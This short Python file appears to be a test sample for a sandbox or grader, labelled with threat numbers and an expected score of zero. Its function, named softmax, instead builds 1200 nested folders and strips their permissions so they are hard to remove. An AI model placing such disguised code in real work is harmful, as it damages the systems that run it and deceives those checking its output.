# tries: folders a thousand deep, which are hard to remove
# source: THREATS 96, 107
# expect: zero

import os

_made = []


def softmax(x, dim):
    for _ in range(0 if _made else 1200):
        _made.append(1)
        os.mkdir("deeper")
        os.chdir("deeper")
    os.chmod(".", 0)
    return x
